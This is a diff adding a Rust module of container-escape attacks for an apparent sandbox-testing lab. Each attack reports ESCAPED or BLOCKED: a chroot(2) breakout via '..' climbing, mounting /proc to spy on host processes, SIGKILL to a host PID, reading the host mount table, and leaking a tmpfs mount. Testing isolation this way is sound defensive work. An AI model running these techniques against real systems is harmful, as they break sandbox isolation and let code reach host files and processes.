@@ -1,0 +1,151 @@
+//! The escape lab's attacks. Each one is a single technique, tried the way an
+//! attacker with root inside the container would, and prints one line:
+//! `ESCAPED: evidence` or `BLOCKED: why`. The evidence is a secret only the host
+//! side knows (a file's content, a process's name), so a line cannot claim an
+//! escape that did not happen. Where the effect can be seen from outside (a killed
+//! process, a leaked mount), the tests check it there.
+
+use std::fs;
+use std::path::Path;
+
+use nix::mount::{MsFlags, mount};
+use nix::sys::signal::{Signal, kill};
+use nix::unistd::{Pid, chdir, chroot};
+
+/// (name, arguments, what it tries).
+pub const ATTACKS: [(&str, &str, &str); 5] = [
+    (
+        "chroot-breakout",
+        "HOST_FILE",
+        "read a host file, breaking out of chroot if needed",
+    ),
+    (
+        "see-host-processes",
+        "MARKER",
+        "find a host process whose command line holds MARKER",
+    ),
+    (
+        "kill-host-process",
+        "PID",
+        "send SIGKILL to the host's process PID",
+    ),
+    (
+        "read-host-mounts",
+        "MARKER",
+        "find a host mount whose source is MARKER",
+    ),
+    (
+        "leak-mount",
+        "MARKER",
+        "mount a tmpfs named MARKER on ./mnt, for the host to find",
+    ),
+];
+
+/// Run attack `name`; `None` if there is no such attack or its arguments are wrong.
+pub fn run(name: &str, args: &[&str]) -> Option<String> {
+    let line = match (name, args) {
+        ("chroot-breakout", [file]) => chroot_breakout(Path::new(file)),
+        ("see-host-processes", [marker]) => see_host_processes(marker),
+        ("kill-host-process", [pid]) => kill_host_process(Pid::from_raw(pid.parse().ok()?)),
+        ("read-host-mounts", [marker]) => read_host_mounts(marker),
+        ("leak-mount", [marker]) => leak_mount(marker),
+        _ => return None,
+    };
+    Some(line)
+}
+
+/// The classic: a root process may call chroot(2) again. Doing so into a
+/// subdirectory leaves the working directory *outside* the new root, and from
+/// there `..` climbs without limit to the real root.
+fn chroot_breakout(host_file: &Path) -> String {
+    if let Ok(secret) = fs::read_to_string(host_file) {
+        return format!("ESCAPED: no wall to climb, read {:?}", secret.trim());
+    }
+    let result = (|| {
+        let _ = fs::create_dir("/.breakout");
+        chroot("/.breakout")?;
+        for _ in 0..256 {
+            chdir("..")?;
+        }
+        chroot(".")
+    })();
+    if let Err(e) = result {
+        return format!("BLOCKED: chroot failed: {e}");
+    }
+    match fs::read_to_string(host_file) {
+        Ok(secret) => format!("ESCAPED: broke out of chroot, read {:?}", secret.trim()),
+        Err(_) => "BLOCKED: climbed to the top of this root; no host file up there".into(),
+    }
+}
+
+/// Look for a host process through `/proc`, mounting it first if the runtime did
+/// not: a root process inside a chroot is allowed to.
+fn see_host_processes(marker: &str) -> String {
+    if let Err(e) = ensure_proc() {
+        return format!("BLOCKED: cannot mount /proc: {e}");
+    }
+    let pids = crate::report::pids();
+    for pid in &pids {
+        let cmdline = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+        let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
+        if cmdline.contains(marker) {
+            return format!("ESCAPED: saw the host's {:?}", cmdline.trim());
+        }
+    }
+    format!(
+        "BLOCKED: {} processes visible, none of them the host's",
+        pids.len()
+    )
+}
+
+fn kill_host_process(pid: Pid) -> String {
+    match kill(pid, Signal::SIGKILL) {
+        Ok(()) => format!("ESCAPED: sent SIGKILL to pid {pid}"),
+        Err(e) => format!("BLOCKED: kill {pid}: {e}"),
+    }
+}
+
+/// Read the mount table of PID 1: in a chroot without a PID namespace, that is the
+/// host's init, and its table is the host's.
+fn read_host_mounts(marker: &str) -> String {
+    if let Err(e) = ensure_proc() {
+        return format!("BLOCKED: cannot mount /proc: {e}");
+    }
+    for table in ["/proc/1/mountinfo", "/proc/self/mountinfo"] {
+        let content = fs::read_to_string(table).unwrap_or_default();
+        if let Some(line) = content.lines().find(|l| l.contains(marker)) {
+            let mount_point = line.split(' ').nth(4).unwrap_or("?");
+            return format!("ESCAPED: {table} lists the host's {marker} at {mount_point}");
+        }
+    }
+    "BLOCKED: no host mount in sight".into()
+}
+
+/// Mount something. Whether the host can see it is for the host to check.
+fn leak_mount(marker: &str) -> String {
+    let _ = fs::create_dir("mnt");
+    match mount(
+        Some(marker),
+        "mnt",
+        Some("tmpfs"),
+        MsFlags::empty(),
+        None::<&str>,
+    ) {
+        Ok(()) => format!("MOUNTED: tmpfs {marker} on ./mnt"),
+        Err(e) => format!("BLOCKED: mount: {e}"),
+    }
+}
+
+fn ensure_proc() -> nix::Result<()> {
+    if Path::new("/proc/self").exists() {
+        return Ok(());
+    }
+    let _ = fs::create_dir("/proc");
+    mount(
+        Some("proc"),
+        "/proc",
+        Some("proc"),
+        MsFlags::empty(),
+        None::<&str>,
+    )
+}
